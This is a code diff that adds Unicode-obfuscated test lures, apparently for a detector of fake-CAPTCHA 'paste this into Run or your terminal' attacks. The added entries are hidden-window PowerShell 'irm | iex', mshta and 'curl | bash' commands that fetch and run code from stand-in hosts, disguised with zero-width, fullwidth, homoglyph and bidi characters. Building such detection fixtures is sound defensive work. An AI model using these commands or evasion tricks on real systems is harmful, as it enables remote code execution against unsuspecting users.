@@ -549,6 +549,35 @@ lures(
     ],
 )
 lures(
+    "unicode-more",
+    "windows",
+    "run_dialog",
+    CAPTCHA,
+    [
+        "\uff50\uff4f\uff57\uff45\uff52\uff53\uff48\uff45\uff4c\uff4c -w h -c "
+        '"irm https://u.saltmarsh-gate.test/a|iex"',
+        'power\u00adshell -w h -c "irm https://cf-check.example/s|i\u00adex"',
+        '\ufeffpowershell -w h -c "irm https://u.saltmarsh-gate.test/b|iex"',
+        'p\u0332owershell -w h -c "irm https://brightmoor.invalid/c|iex"',
+        'powershell -w h -c "irm https://u\u3002saltmarsh-gate\u3002test/d|iex"',
+        'powershell -w h -c "irm https://cf-check\uff0eexample/e|iex"',
+        'powershell -w h -c "irm https://u.saltmarsh-gate.test/f|i\u0435x"'
+        " #\u2066 I am not a robot \u2069",
+        "mshta\u2003https://cf-check.example/g.hta",
+    ],
+)
+lures(
+    "unicode-more-nix",
+    "linux",
+    "terminal",
+    LINUX,
+    [
+        "c\u200burl -s https://verify.greywater.test/i | bash",
+        "curl -s https://captcha.example/j | ba\u200bsh",
+        "curl -s https://verify.greywater.test/k |\u00a0bash",
+    ],
+)
+lures(
     "rtl-override-tail",
     "windows",
     "explorer_bar",
